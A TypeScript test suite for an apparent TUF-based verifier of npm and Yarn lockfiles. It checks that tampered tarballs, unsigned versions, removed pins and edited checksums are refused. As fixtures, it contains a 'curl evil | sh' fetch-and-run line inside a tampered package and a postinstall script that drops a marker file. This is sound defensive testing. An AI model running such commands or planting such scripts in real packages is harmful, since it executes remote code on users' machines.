import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { addPackageVersion, buildPackageTarball } from '@tufpm/registry';
import { NpmWorld, isolatedEnv, run, type CliResult, type Project } from '../src/harness/npm-world.js';
import { YarnProject } from '../src/harness/yarn.js';

// ADR 0015: no silent unverified path. Plain npm in a project set up by `tufpm-npm init`, Yarn whose plugin
// line went missing, and a pull request that deletes tufpm-lock.json are stopped (real npm 11, real Yarn
// 4.18, loopback registry); `tufpm-verify`, the CI gate, checks a lockfile against TUF and the pins without
// npm or Yarn and refuses every unverified package.

const require = createRequire(import.meta.url);
const VERIFY_CLI = join(dirname(require.resolve('@tufpm/cli')), 'main.js');
/** the maintainer CLI `tufpm`, whose `verify` hands over to @tufpm/cli */
const TUFPM_CLI = join(dirname(require.resolve('@tufpm/repo')), '..', '..', 'bin', 'tufpm.js');

const sri = (bytes: Uint8Array): string => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;

function verify(dir: string, machine: string, args: string[] = []): Promise<CliResult> {
  return run(process.execPath, [VERIFY_CLI, ...args], dir, isolatedEnv(machine));
}

/** The gate refuses: exit 1, the code, and the attack named, and nothing in the project changes. */
async function gateRefuses(project: Project | YarnProject, code: RegExp, attack: RegExp): Promise<CliResult> {
  const before = await project.state();
  const res = await verify(project.dir, project.machine, ['--json']);
  assert.equal(res.code, 1, `exit 1 expected\n${res.stderr}`);
  assert.match(res.stderr, code);
  assert.match(res.stderr, attack);
  const json = JSON.parse(res.stdout) as { ok: boolean; errors: Array<{ code: string }> };
  assert.equal(json.ok, false);
  assert.ok(json.errors.some((e) => code.test(e.code)), res.stdout);
  assert.deepEqual(await project.state(), before, 'the gate touches nothing');
  return res;
}

type PackageLock = { packages: Record<string, { version?: string; resolved?: string; integrity?: string }> };

describe('no silent unverified path: the plain-npm and missing-plugin guards, the pins, the CI gate', () => {
  let world: NpmWorld;
  const tarballs = new Map<string, Uint8Array>();

  before(async () => {
    world = await NpmWorld.create();
    tarballs.set('right@1.0.0', (await world.publish('right', '1.0.0')).tarball);
    tarballs.set('left@1.0.0', (await world.publish('left', '1.0.0', { right: '^1.0.0' })).tarball);
    tarballs.set('other@1.0.0', (await world.publish('other', '1.0.0')).tarball);
    const bin = buildPackageTarball({ name: 'hello-bin', version: '1.0.0', manifest: { bin: { 'hello-bin': 'index.js' } }, files: { 'index.js': '#!/usr/bin/env node\nconsole.log("RAN hello-bin");\n' } });
    await addPackageVersion(world.registryDir, bin, { durable: false });
    await world.repo.publishTarball(bin);
  });
  after(() => world.close());

  /** A project after `tufpm-npm init` and a verified install. */
  async function guardedNpmProject(dependencies: Record<string, string> = { left: '^1.0.0' }): Promise<Project> {
    const project = await world.project({ dependencies, scripts: { hello: 'echo hello from a script' } });
    const init = await project.tufpmNpm(['init']);
    assert.equal(init.code, 0, init.stderr);
    assert.match(init.stderr, /engines\.npm/);
    const install = await project.tufpmNpm(['install']);
    assert.equal(install.code, 0, install.stderr);
    return project;
  }

  test('rejects plain npm install and npm ci in a project set up by tufpm-npm init (EBADENGINE); tufpm-npm and npm run keep working', async () => {
    const project = await world.project({ dependencies: { left: '^1.0.0' }, scripts: { hello: 'echo hello from a script' } });
    assert.equal((await project.tufpmNpm(['init'])).code, 0);
    const pkg = JSON.parse((await project.read('package.json'))!) as { engines: { npm: string } };
    assert.match(pkg.engines.npm, /use tufpm-npm/);
    assert.match((await project.read('.npmrc'))!, /^engine-strict=true$/m);
    assert.match((await project.read('.npmrc'))!, /^yes=false$/m);
    // Before any install: plain npm installs nothing.
    let before = await project.state();
    const plain = await project.npm(['install', '--no-audit', '--no-fund']);
    assert.notEqual(plain.code, 0, 'plain npm install refused');
    assert.match(plain.stderr, /EBADENGINE/);
    assert.match(plain.stderr, /use tufpm-npm/);
    assert.deepEqual(await project.state(), before, 'plain npm touched nothing');
    // tufpm-npm drives Arborist without an npm version: the guard does not stop it.
    const verified = await project.tufpmNpm(['install']);
    assert.equal(verified.code, 0, verified.stderr);
    assert.ok(existsSync(join(project.dir, 'node_modules', 'right', 'package.json')));
    // A fresh checkout (CI) running plain npm ci: refused before anything is fetched.
    await rm(join(project.dir, 'node_modules'), { recursive: true, force: true });
    await project.freshMachine();
    before = await project.state();
    const ci = await project.npm(['ci', '--no-audit', '--no-fund']);
    assert.notEqual(ci.code, 0, 'plain npm ci refused');
    assert.match(ci.stderr, /EBADENGINE/);
    assert.deepEqual(await project.state(), before);
    // Scripts still run with plain npm; init is idempotent.
    const script = await project.npm(['run', 'hello']);
    assert.equal(script.code, 0, script.stderr);
    assert.match(script.stdout, /hello from a script/);
    const again = await project.tufpmNpm(['init']);
    assert.equal(again.code, 0, again.stderr);
    assert.doesNotMatch(again.stderr, /engines\.npm|\.npmrc/, 'nothing left to set up');
  });

  test('rejects npx of a package the guarded project does not have (it would run unverified code)', async () => {
    const project = await guardedNpmProject();
    const res = await project.npm(['exec', '--', 'hello-bin']);
    assert.notEqual(res.code, 0);
    assert.match(res.stderr, /npx canceled due to missing packages/);
    assert.doesNotMatch(res.stdout, /RAN hello-bin/, 'nothing ran');
  });

  test('rejects a Yarn install whose plugin line was removed from .yarnrc.yml (yarn tuf init wrote tufMode)', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    const init = await project.yarn(['tuf', 'init']);
    assert.equal(init.code, 0, init.stdout);
    assert.match((await project.read('.yarnrc.yml'))!, /^tufMode: enforce$/m);
    assert.equal((await project.yarn(['install'])).code, 0);
    // A pull request (or a bad merge) drops the plugin: every other line stays.
    const rc = (await project.read('.yarnrc.yml'))!;
    const withoutPlugin = rc.replace(/^plugins:\n(?:[ -].*\n)*/m, '');
    assert.notEqual(withoutPlugin, rc);
    await project.write('.yarnrc.yml', withoutPlugin);
    const before = await project.state();
    for (const args of [['install'], ['install', '--immutable']]) {
      const res = await project.yarn(args);
      assert.equal(res.code, 1, res.stdout);
      assert.match(res.stdout + res.stderr, /Unrecognized or legacy configuration settings found: tufMode/);
    }
    assert.deepEqual(await project.state(), before, 'nothing installed');
  });

  test('rejects a pull request that deletes tufpm-lock.json (yarn install --immutable); a plain yarn install warns and writes it', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    await rm(join(project.dir, 'tufpm-lock.json'));
    await project.freshMachine();
    const before = await project.state();
    const res = await project.yarn(['install', '--immutable']);
    assert.equal(res.code, 1, res.stdout);
    assert.match(res.stdout, /TUF_PINS_MISSING/);
    assert.match(res.stdout, /attack: pins removed/);
    assert.match(res.stdout, /restore tufpm-lock\.json/);
    assert.deepEqual(await project.state(), before, 'nothing touched');
    const plain = await project.yarn(['install']);
    assert.equal(plain.code, 0, plain.stdout);
    assert.match(plain.stdout, /TUF_PINS_MISSING \(warning\)/);
    assert.ok(await project.read('tufpm-lock.json'), 'the install wrote the pins again');
  });

  test('rejects a pull request that adds a package only in yarn.lock, not in tufpm-lock.json (yarn install --immutable: TUF_PINS_STALE); yarn install records it', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    const pins = (await project.read('tufpm-lock.json'))!;
    // The pull request: package.json and yarn.lock gain `other`, tufpm-lock.json stays as it was.
    const added = await project.yarn(['add', 'other@1.0.0']);
    assert.equal(added.code, 0, added.stdout);
    await project.write('tufpm-lock.json', pins);
    await project.freshMachine();
    const before = await project.state();
    const res = await project.yarn(['install', '--immutable']);
    assert.equal(res.code, 1, res.stdout);
    assert.match(res.stdout, /TUF_PINS_STALE/);
    assert.match(res.stdout, /1 package\(s\) in the lockfile are not pinned in tufpm-lock\.json: other@1\.0\.0/);
    assert.match(res.stdout, /run `yarn install`, review the change with `tufpm diff`/);
    assert.deepEqual(await project.state(), before, 'nothing linked, no file changed');
    const recorded = await project.yarn(['install']);
    assert.equal(recorded.code, 0, recorded.stdout);
    assert.match((await project.read('tufpm-lock.json'))!, /"other@1\.0\.0"/);
    const frozen = await project.yarn(['install', '--immutable']);
    assert.equal(frozen.code, 0, frozen.stdout);
  });

  test('rejects a pull request that deletes tufpm-lock.json (tufpm-npm ci); tufpm-npm install warns and writes it', async () => {
    const project = await guardedNpmProject();
    await rm(join(project.dir, 'tufpm-lock.json'));
    await project.freshMachine();
    const before = await project.state();
    const res = await project.tufpmNpm(['ci']);
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /TUF_PINS_MISSING/);
    assert.match(res.stderr, /attack: +pins removed/);
    assert.deepEqual(await project.state(), before, 'nothing touched');
    // The gate refuses it too.
    await gateRefuses(project, /TUF_PINS_MISSING/, /pins removed/);
    const install = await project.tufpmNpm(['install']);
    assert.equal(install.code, 0, install.stderr);
    assert.match(install.stderr, /TUF_PINS_MISSING \(warning\)/);
    assert.ok(await project.read('tufpm-lock.json'));
  });

  test('tufpm-verify passes a verified package-lock.json and a verified yarn.lock, without npm or Yarn', async () => {
    const npmProject = await guardedNpmProject();
    await npmProject.freshMachine();
    const ok = await verify(npmProject.dir, npmProject.machine, ['--json']);
    assert.equal(ok.code, 0, ok.stderr);
    const result = JSON.parse(ok.stdout) as { ok: boolean; packages: Array<{ name: string; role: string }> };
    assert.equal(result.ok, true);
    assert.deepEqual(result.packages.map((p) => p.name).sort(), ['left', 'right']);
    // the same gate as `tufpm verify`
    const viaTufpm = await run(process.execPath, [TUFPM_CLI, 'verify'], npmProject.dir, isolatedEnv(npmProject.machine));
    assert.equal(viaTufpm.code, 0, viaTufpm.stderr);
    assert.match(viaTufpm.stderr, /tufpm-verify: OK: 2 package\(s\) verified .* in package-lock\.json/);
    const yarnProject = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await yarnProject.yarn(['install'])).code, 0);
    const yarnOk = await verify(yarnProject.dir, yarnProject.machine);
    assert.equal(yarnOk.code, 0, yarnOk.stderr);
    assert.match(yarnOk.stderr, /OK: 2 package\(s\) verified .* in yarn\.lock/);
  });

  test('tufpm-verify rejects a package-lock.json pointing at a tampered tarball', async () => {
    const project = await guardedNpmProject();
    const evil = buildPackageTarball({ name: 'right', version: '1.0.0', files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
    await world.replaceTarball('right', '1.0.0', evil);
    try {
      const lock = JSON.parse((await project.read('package-lock.json'))!) as PackageLock;
      lock.packages['node_modules/right']!.integrity = sri(evil);
      await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
      await project.freshMachine();
      const res = await gateRefuses(project, /TUF_LOCK_INTEGRITY/, /attack: +tampered tarball/);
      assert.match(res.stderr, /package: right@1\.0\.0/);
      // Control: the attack is real: plain npm ci (guard passed deliberately) installs the tampered bytes.
      const plain = await project.npm(['ci', '--no-engine-strict', '--no-audit', '--no-fund']);
      assert.equal(plain.code, 0, plain.stderr);
      assert.match((await project.read('node_modules/right/index.js'))!, /curl evil/);
    } finally {
      await world.replaceTarball('right', '1.0.0', tarballs.get('right@1.0.0')!);
    }
  });

  test('tufpm-verify rejects a package-lock.json integrity listing a tampered tarball\'s sha512 beside the signed one', async () => {
    // pacote accepts a tarball when any digest of the strongest algorithm matches: "signed evil" would let
    // plain npm ci install the evil bytes.
    const project = await guardedNpmProject();
    const evil = buildPackageTarball({ name: 'right', version: '1.0.0', files: { 'index.js': 'process.exit(66)\n' } });
    const lock = JSON.parse((await project.read('package-lock.json'))!) as PackageLock;
    const entry = lock.packages['node_modules/right']!;
    entry.integrity = `${entry.integrity} ${sri(evil)}`;
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    const res = await gateRefuses(project, /TUF_LOCK_INTEGRITY/, /attack: +tampered tarball/);
    assert.match(res.stderr, /package: right@1\.0\.0/);
  });

  test('tufpm-verify rejects a package-lock.json naming an unsigned version', async () => {
    await world.publish('solo', '1.0.0');
    const project = await guardedNpmProject({ solo: '1.0.0' });
    // The registry (or a mirror) carries a version nobody signed; the pull request moves the lockfile to it.
    const unsigned = await world.publishUnsigned('solo', '1.0.9');
    const lock = JSON.parse((await project.read('package-lock.json'))!) as PackageLock;
    lock.packages['node_modules/solo'] = { ...lock.packages['node_modules/solo'], version: '1.0.9', resolved: `${world.url}solo/-/solo-1.0.9.tgz`, integrity: sri(unsigned) };
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    const res = await gateRefuses(project, /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
    assert.match(res.stderr, /package: solo@1\.0\.9/);
  });

  test('tufpm-verify rejects a package-lock.json pointing a package at another package\'s tarball (wrong package)', async () => {
    const project = await guardedNpmProject();
    const lock = JSON.parse((await project.read('package-lock.json'))!) as PackageLock;
    lock.packages['node_modules/right'] = { ...lock.packages['node_modules/right'], resolved: `${world.url}other/-/other-1.0.0.tgz`, integrity: sri(tarballs.get('other@1.0.0')!) };
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    const res = await gateRefuses(project, /TUF_LOCK_RESOLVED/, /attack: +wrong package/);
    assert.match(res.stderr, /right@1\.0\.0 resolves to the tarball of other@1\.0\.0/);
  });

  test('tufpm-verify rejects a yarn.lock entry added by a Yarn without the plugin, and an edited yarn.lock checksum', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    const pinned = (await project.read('tufpm-lock.json'))!;
    // An edited checksum (a tampered archive's) for a pinned package.
    const yarnLock = (await project.read('yarn.lock'))!;
    const edited = yarnLock.replace(/("?right@npm:\^1\.0\.0"?:[\s\S]*?checksum: 10c0\/)[0-9a-f]{128}/, (_, head: string) => `${head}${'ab'.repeat(64)}`);
    assert.notEqual(edited, yarnLock);
    await project.write('yarn.lock', edited);
    const tampered = await gateRefuses(project, /TUF_CHECKSUM_BINDING/, /attack: +tampered tarball or edited yarn\.lock checksum/);
    assert.match(tampered.stderr, /package: right@1\.0\.0/);
    await project.write('yarn.lock', yarnLock);
    // The plugin goes missing (and its setting with it); plain Yarn adds a package; the pins do not follow.
    const plain = await YarnProject.create(world, { left: '^1.0.0', other: '1.0.0' }, { plugin: false, machine: project.machine });
    await plain.write('yarn.lock', yarnLock);
    await plain.write('tufpm-lock.json', pinned);
    assert.equal((await plain.yarn(['install'])).code, 0, 'plain Yarn installs without a word');
    const res = await gateRefuses(plain, /TUF_CHECKSUM_BINDING/, /attack: +unverified install/);
    assert.match(res.stderr, /package: other@1\.0\.0/);
  });

  test('tufpm-verify rejects a package-lock.json that flags a signed package inBundle and points it at an unsigned tarball', async () => {
    await world.publish('flagged', '1.0.0');
    const project = await guardedNpmProject({ flagged: '^1.0.0' });
    // The registry serves a version nobody signed, with an install script; the pull request flags the signed
    // top-level package `inBundle` (the gate used to skip such entries) and moves it there.
    const evil = buildPackageTarball({ name: 'flagged', version: '1.0.1', manifest: { scripts: { postinstall: 'node -e "require(\'fs\').writeFileSync(\'../../PWNED\', \'ran\')"' } }, files: { 'index.js': 'module.exports = "EVIL";\n' } });
    await addPackageVersion(world.registryDir, evil, { durable: false });
    const lock = JSON.parse((await project.read('package-lock.json'))!) as PackageLock;
    const flaggedEntry = { version: '1.0.1', resolved: `${world.url}flagged/-/flagged-1.0.1.tgz`, integrity: sri(evil), hasInstallScript: true, inBundle: true };
    lock.packages['node_modules/flagged'] = flaggedEntry;
    await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
    await project.freshMachine();
    const res = await gateRefuses(project, /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
    assert.match(res.stderr, /package: flagged@1\.0\.1/);
    // Control: the attack is real: plain npm ci (guard passed deliberately) installs the unsigned bytes and runs their script.
    const plain = await project.npm(['ci', '--no-engine-strict', '--no-audit', '--no-fund']);
    assert.equal(plain.code, 0, plain.stderr);
    assert.match((await project.read('node_modules/flagged/index.js'))!, /EVIL/);
    assert.ok(existsSync(join(project.dir, 'PWNED')), 'the unsigned postinstall ran');
  });

  test('tufpm-verify rejects a yarn.lock patch: entry whose base package entry was removed (the patched checksum would bind to nothing)', async () => {
    const patch = 'diff --git a/NOTE.md b/NOTE.md\nnew file mode 100644\n--- /dev/null\n+++ b/NOTE.md\n@@ -0,0 +1 @@\n+patched\n';
    const project = await YarnProject.create(world, { other: 'patch:other@npm%3A1.0.0#./other.patch' });
    await project.write('other.patch', patch);
    const install = await project.yarn(['install']);
    assert.equal(install.code, 0, install.stderr);
    // the legitimate case: a patched package with its base's bound entry passes
    const ok = await verify(project.dir, project.machine);
    assert.equal(ok.code, 0, ok.stderr);
    // The pull request deletes the base `other@npm:1.0.0` entry: the patched entry's checksum (over whatever
    // bytes plain Yarn fetched, a tampered tarball's) would then be checked against nothing.
    const yarnLock = (await project.read('yarn.lock'))!;
    const stripped = yarnLock.replace(/\n"other@npm:1\.0\.0":\n(  .*\n)+/, '\n');
    assert.notEqual(stripped, yarnLock);
    assert.match(stripped, /other@patch:/);
    await project.write('yarn.lock', stripped);
    const res = await gateRefuses(project, /TUF_CHECKSUM_BINDING/, /attack: +unbound patch base/);
    assert.match(res.stderr, /package: other@1\.0\.0/);
  });
});
